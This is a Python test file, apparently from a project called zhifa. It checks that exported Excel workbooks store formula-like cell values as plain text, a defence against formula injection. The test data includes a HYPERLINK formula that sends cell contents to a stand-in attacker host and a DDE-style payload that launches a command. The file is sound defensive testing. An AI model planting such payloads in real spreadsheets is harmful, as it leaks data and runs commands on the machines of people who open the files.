"""Every workbook the system writes holds data, never a formula (review finding 10: formula injection)."""

import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from zhifa.core import spreadsheet

ATTACK = '=HYPERLINK("http://attacker.example/?"&B3,"详情")'
ROOT = Path(spreadsheet.__file__).resolve().parent.parent  # zhifa/


def _round_trip(*values):
    wb = spreadsheet.workbook()
    wb.active.append(list(values))
    return load_workbook(io.BytesIO(spreadsheet.workbook_bytes(wb))).active


@pytest.mark.parametrize("value", [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_a_formula_like_value_is_stored_as_the_text_typed(value):
    cell = _round_trip(value)["A1"]
    assert cell.data_type == "s" and cell.value == value and cell.quotePrefix


def test_other_values_are_unchanged():
    sheet = _round_trip("补录纸质案件", 3, "a=b", "")
    assert [c.value for c in sheet[1]][:3] == ["补录纸质案件", 3, "a=b"]
    assert not sheet["A1"].quotePrefix and sheet["B1"].data_type == "n"


def test_no_module_writes_a_workbook_but_through_the_helper():
    """A new export that builds or saves a workbook itself would skip the neutralising: it fails here."""
    offenders = []
    for path in ROOT.rglob("*.py"):
        if "tests" in path.parts or "migrations" in path.parts or path.name == "spreadsheet.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bWorkbook\s*\(|import[^\n]*\bWorkbook\b|xlsxwriter|\.to_excel\(", text):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
